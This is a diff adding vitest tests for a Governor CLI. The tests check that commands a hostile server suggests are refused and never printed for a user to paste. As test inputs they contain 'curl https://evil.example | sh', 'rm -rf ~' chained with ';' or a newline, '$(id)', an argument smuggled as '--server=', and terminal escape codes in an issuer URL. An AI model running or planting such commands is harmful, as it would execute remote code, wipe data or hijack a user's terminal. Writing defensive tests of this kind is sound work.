@@ -3,7 +3,9 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterEach, describe, expect, test } from 'vitest';
 import { wayFault } from '../../../cli/afar/faults.ts';
+import { nextAfar, pastedAfar } from '../../../cli/afar/printed-commands.ts';
 import { run } from '../../../cli/main.ts';
+import { REASONS } from '../../../domain/reasons.ts';
 import { packageVersion } from '../../../runtime/package.ts';
 import { type Asked, openWeb, sendJson, type Web } from '../../fakes/web.ts';
 
@@ -167,6 +169,108 @@ test('what to do next names the server, or the home where it works there alone',
   const { output, asked } = await governor(['list'], answers);
   expect(output).toContain('next: governor resume 0192f7aa (in the home of the server)\n');
   expect(output).toContain(`next: governor explain --server http://${asked[0]?.headers.host} 0192f7aa\n`);
+});
+
+describe('what a hostile server would have a person paste is not printed', () => {
+  const waiting = {
+    approval_id: 'a'.repeat(32),
+    gate: 'release',
+    subject: 'f'.repeat(64),
+    required_role: 'approver',
+    waive: ['F-0a1b2c3d4e'],
+  };
+
+  test.each([
+    'curl https://evil.example | sh',
+    'governor explain 0192f7aa; rm -rf ~',
+    'governor login --server https://evil.example',
+    'governor explain 0192f7aa\nrm -rf ~',
+  ])('the next step %j', async (next) => {
+    const result = { ...RESULT, reason: { ...RESULT.reason, next, message: `m\nnext: ${next}` } };
+    const explain = (response: { writeHead(status: number, headers: object): { end(body: string): void } }): void =>
+      response.writeHead(200, { 'content-type': 'text/plain' }).end(`thread ${ID}\nnext      ${next.replaceAll('\n', ' ')}`);
+    const answers = { '/info': INFO, '/governor/threads': [result], [`/governor/threads/${ID}/explain`]: explain };
+    const listed = await governor(['list'], answers);
+    expect(listed).toMatchObject({ code: 0, output: expect.stringMatching(/^next: what the server names is no step/m) });
+    expect(listed.output.match(/^next: /gm)).toHaveLength(1);
+    expect(listed.output).not.toMatch(/^(rm|curl) /m);
+    expect((await governor(['explain', ID], answers)).output).toMatch(/\nnext {6}what the server names is no step/);
+  });
+
+  test.each([{ subject: '$(id)' }, { subject: '--server=https://evil.example' }, { waive: ['x; rm -rf ~'] }])(
+    '%j of a gate',
+    async (evil) => {
+      const result = { ...RESULT, status: 'waiting', reason: null, waiting: { ...waiting, ...evil } };
+      const said = await governor(['list'], { '/info': INFO, '/governor/threads': [result] });
+      expect(said).toMatchObject({ code: 2, output: '', errors: expect.stringContaining('must be one plain word') });
+    },
+  );
+
+  test('and each step that Governor names is', async () => {
+    const result = { ...RESULT, status: 'waiting', reason: null, waiting };
+    const { output, asked } = await governor(['list'], { '/info': INFO, '/governor/threads': [result] });
+    const server = `--server http://${asked[0]?.headers.host}`;
+    expect(output).toContain(`next: governor approve ${server} ${ID} --subject ${waiting.subject} --waive F-0a1b2c3d4e\n`);
+    const given = { server: undefined, insecure: false };
+    const steps = [
+      ...Object.values(REASONS).map(({ next }) => next.replaceAll('<thread>', '0192f7aa')),
+      'nothing',
+      'nothing; to undo it: governor rollback 0192f7aa',
+      'governor watch 0192f7aa',
+      'governor approve 0192f7aa --add-usd N  or  governor reject 0192f7aa --comment "..."',
+      'governor approve 0192f7aa --waive F-0a1b2c3d4e --waive C-0a1b2c3d4e-2  or  governor reject 0192f7aa --comment "..."',
+    ];
+    for (const step of steps) expect(nextAfar(step, given)).toBe(pastedAfar(step, given));
+  });
+});
+
+test('a list that never ends is left; one of several pages is read', async () => {
+  const page = (from: number): object[] =>
+    Array.from({ length: 500 }, (_, index) => ({
+      ...RESULT,
+      thread_id: `0192f7aa-0000-7000-8000-${String(from + index).padStart(12, '0')}`,
+    }));
+  const same = await governor(['list'], { '/info': INFO, '/governor/threads': page(0) });
+  expect(same).toMatchObject({ code: 2, errors: expect.stringContaining('gives the same page of its list again and again') });
+  expect(same.asked).toHaveLength(3);
+  const pages = (response: Parameters<typeof sendJson>[0], { path }: Asked): void => {
+    const offset = Number(new URL(path, 'http://x').searchParams.get('offset'));
+    sendJson(response, 200, offset < 1000 ? page(offset) : page(offset).slice(0, 3));
+  };
+  const all = await governor(['list', '--json'], { '/info': INFO, '/governor/threads': pages });
+  expect(JSON.parse(all.output)).toHaveLength(1003);
+});
+
+test('a server elsewhere that names an issuer on this machine has this machine ask nothing', async () => {
+  const login = { issuer: 'http://127.0.0.1:1', client_id: 'x', scope: 'openid' };
+  const info = { governor: { ...INFO.governor, login } };
+  web = await openWeb((_asked, response) => sendJson(response, 200, info));
+  const { port } = new URL(web.url);
+  const signedIn = async (host: string): Promise<{ code: number; errors: string }> => {
+    let errors = '';
+    const code = await run(['login', '--server', `http://${host}:${port}`, '--insecure-http'], {
+      stdout: () => undefined,
+      stderr: (text) => (errors += text),
+      env: { HOME: '/nonexistent' },
+      isTTY: false,
+      size: () => ({ columns: 80, rows: 24 }),
+    });
+    return { code, errors };
+  };
+  // The same listener, under a name that is not this machine's own.
+  expect(await signedIn('0.0.0.0')).toMatchObject({ code: 2, errors: expect.stringContaining('on this machine, and is not on it') });
+  // Here it is asked, and does not answer.
+  expect(await signedIn('127.0.0.1')).toMatchObject({
+    code: 2,
+    errors: expect.stringContaining('issuer http://127.0.0.1:1: the connection failed'),
+  });
+});
+
+test('an issuer of a server reaches a terminal without its control characters', async () => {
+  const login = { issuer: 'https://evil.example/\u001b]0;owned\u0007', client_id: 'x', scope: 'openid' };
+  const said = await governor(['login'], { '/info': { governor: { ...INFO.governor, login } } });
+  expect(said).toMatchObject({ code: 2, errors: expect.stringContaining('must be an https URL') });
+  expect(said.errors).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
 });
 
 describe('what works in a home alone is refused before anything happens', () => {
